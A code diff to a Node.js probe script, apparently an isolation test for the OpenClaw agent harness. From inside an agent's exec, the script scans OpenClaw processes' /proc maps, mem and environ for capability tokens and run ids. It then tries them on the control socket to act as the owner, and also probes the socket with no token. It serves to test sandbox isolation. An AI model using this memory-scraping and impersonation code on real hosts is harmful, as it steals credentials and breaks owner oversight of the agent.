@@ -8,7 +8,14 @@
 //
 // Prints one line, "steal: read=yes|no ... use: turns=<status> <reason> ...",
 // and writes the details to --out as JSON. It never prints a capability.
-import { readFileSync, openSync, readSync, closeSync, writeFileSync } from "node:fs";
+//
+// The OpenClaw processes are the exec's ancestors (the development layout:
+// no sandbox); in OpenClaw's sandbox (the exec runs under another account
+// through sshd) it looks for them in /proc instead. For each it tries
+// /proc/<pid>/maps, /proc/<pid>/mem and /proc/<pid>/environ and reports what
+// each open gave (the errno code, e.g. EACCES), and it tries the control
+// socket itself without a capability ("socket=").
+import { readFileSync, readdirSync, openSync, readSync, closeSync, writeFileSync } from "node:fs";
 import { createHash } from "node:crypto";
 import { request } from "node:http";
 import { parseArgs } from "node:util";
@@ -24,23 +31,54 @@ const fp = (/** @type {string} */ s) => createHash("sha256").update(s).digest("b
 const stat = (pid) => readFileSync(`/proc/${pid}/stat`, "utf8");
 const ppidOf = (/** @type {number | string} */ pid) => Number(stat(pid).slice(stat(pid).lastIndexOf(")") + 2).split(" ")[1]);
 
+/** The OpenClaw process at pid as {pid, comm, uid}, or null. */
+function openclawProc(pid) {
+  const comm = readFileSync(`/proc/${pid}/comm`, "utf8").trim();
+  const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
+  if (/process\/supervisor/.test(cmd)) return null; // exec's own spawner
+  if (!comm.startsWith("openclaw") && !/openclaw(\.mjs)? agent\b/.test(cmd)) return null;
+  const uid = Number(/^Uid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? -1);
+  return { pid, comm, uid };
+}
+
 /**
  * The OpenClaw processes that run this exec: its ancestors named openclaw
- * (the agent process holding the plugin and its parent), nearest first.
+ * (the agent process holding the plugin and its parent), nearest first; with
+ * none (a sandboxed exec), every OpenClaw process /proc shows.
  */
 function openclawPids() {
   const out = [];
+  const mine = new Set([process.pid]);
   for (let pid = ppidOf(process.pid); pid > 1; pid = ppidOf(pid)) {
+    mine.add(pid);
     try {
-      const comm = readFileSync(`/proc/${pid}/comm`, "utf8").trim();
-      const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
-      if (/process\/supervisor/.test(cmd)) continue; // exec's own spawner
-      if (comm.startsWith("openclaw") || /openclaw(\.mjs)? agent\b/.test(cmd)) out.push({ pid, comm });
+      const p = openclawProc(pid);
+      if (p) out.push(p);
     } catch {
       break;
     }
   }
-  return out;
+  if (out.length) return { found: "ancestors", procs: out };
+  for (const d of readdirSync("/proc")) {
+    if (!/^\d+$/.test(d) || mine.has(Number(d))) continue;
+    try {
+      const p = openclawProc(Number(d));
+      if (p) out.push(p);
+    } catch {
+      // gone, or hidden
+    }
+  }
+  return { found: "proc", procs: out };
+}
+
+/** What opening /proc/<pid>/<file> for reading gave: "ok" or the errno code. */
+function tryOpen(pid, file) {
+  try {
+    closeSync(openSync(`/proc/${pid}/${file}`, "r"));
+    return "ok";
+  } catch (e) {
+    return String(/** @type {any} */ (e).code || e);
+  }
 }
 
 const needles = (/** @type {string} */ s) => [Buffer.from(s, "latin1"), Buffer.from(s, "utf16le")];
@@ -58,9 +96,20 @@ function hits(b, ns, len, re, set) {
   });
 }
 
-/** Scans the readable, writable private mappings of pid for caps and run ids. */
+/**
+ * Scans the readable, writable private mappings of pid for caps and run ids,
+ * and its environment for caps; records what each /proc open gave.
+ */
 function scan(pid, caps, runs) {
-  const res = { pid, bytes: 0, error: "" };
+  const res = { pid, bytes: 0, error: "", maps: tryOpen(pid, "maps"), mem: tryOpen(pid, "mem"), environ: tryOpen(pid, "environ") };
+  if (res.environ === "ok") {
+    try {
+      hits(readFileSync(`/proc/${pid}/environ`), CAP_N, 57, CAP, caps);
+    } catch (e) {
+      res.environ = String(/** @type {any} */ (e).code || e);
+    }
+  }
+  if (res.maps !== "ok" || res.mem !== "ok") return res;
   let fd;
   try {
     const maps = readFileSync(`/proc/${pid}/maps`, "utf8");
@@ -98,7 +147,8 @@ function scan(pid, caps, runs) {
 /** One request on the control socket: {status, reason, body}. */
 function call(method, path, cap, json) {
   const body = json === undefined ? undefined : Buffer.from(JSON.stringify(json));
-  const headers = { authorization: `Bearer ${cap}` };
+  /** @type {Record<string, string>} */
+  const headers = cap ? { authorization: `Bearer ${cap}` } : {};
   if (body) Object.assign(headers, { "content-type": "application/json", "content-length": String(body.length) });
   return new Promise((resolve) => {
     const req = request({ socketPath: sock, method, path, headers, timeout: 5000 }, (res) => {
@@ -115,7 +165,7 @@ function call(method, path, cap, json) {
         resolve({ status: res.statusCode, reason: j.reason || "", body: j });
       });
     });
-    req.on("error", (e) => resolve({ status: 0, reason: String(e.message), body: {} }));
+    req.on("error", (e) => resolve({ status: 0, reason: String(/** @type {any} */ (e).code || e.message), body: {} }));
     req.on("timeout", () => req.destroy(new Error("timeout")));
     if (body) req.end(body);
     else req.end();
@@ -129,7 +179,7 @@ const ptraceScope = (() => {
     return "none";
   }
 })();
-const procs = openclawPids();
+const { found, procs } = openclawPids();
 const caps = new Set();
 const runs = new Set();
 /** The bytes of pid's readable, writable private mappings. */
@@ -151,7 +201,7 @@ for (const p of procs) {
 }
 // The all-A capability is the owner turn's forged probe, not a real one.
 const realCaps = [...caps].filter((c) => !/^clawea-cap-v1\.A{43}$/.test(c));
-const report = { uid: process.getuid?.(), pid: process.pid, ptrace_scope: ptraceScope, scanned, caps: realCaps.map(fp), runs: [...runs], use: [] };
+const report = { uid: process.getuid?.(), pid: process.pid, ptrace_scope: ptraceScope, found, scanned, caps: realCaps.map(fp), runs: [...runs], use: [] };
 
 // Use: find the (run, capability) pair the attester knows (anything but a
 // plain 403), then act as the owner in that run: open an owner turn, verify
@@ -170,7 +220,8 @@ for (const run of [...runs].slice(0, 20)) {
   }
   if (pair) break;
 }
-let line = `steal: uid=${report.uid} ptrace_scope=${ptraceScope} scanned=${scanned.map((s) => `${s.pid}(${s.comm} ${Math.round(s.bytes / 1048576)}MB${s.error ? " " + s.error : ""})`).join(",") || "none"} read=${realCaps.length ? "yes" : "no"} caps=${realCaps.length} runs=${runs.size}`;
+const opened = (/** @type {any} */ s) => ["maps", "mem", "environ"].filter((f) => s[f] !== "ok").map((f) => ` ${f}=${s[f]}`).join("");
+let line = `steal: uid=${report.uid} ptrace_scope=${ptraceScope} found=${found} scanned=${scanned.map((s) => `${s.pid}(${s.comm} uid=${s.uid} ${Math.round(s.bytes / 1048576)}MB${opened(s)}${s.error ? " " + s.error : ""})`).join(",") || "none"} read=${realCaps.length ? "yes" : "no"} caps=${realCaps.length} runs=${runs.size}`;
 if (pair) {
   const last = report.use[report.use.length - 1];
   line += ` use: turns=${last.status} ${last.reason || "-"}`;
@@ -183,6 +234,10 @@ if (pair) {
 } else {
   line += ` use: no pair the attester knows (${report.use.length} tried)`;
 }
+// The socket itself, without a capability (the uid check's route).
+const probe = await call("GET", "/v1/gate/policy", "");
+report.socket = probe.status ? String(probe.status) : probe.reason;
+line += ` socket=${report.socket}`;
 report.line = line;
 if (opts.out) writeFileSync(opts.out, JSON.stringify(report, null, 2));
 console.log(line);
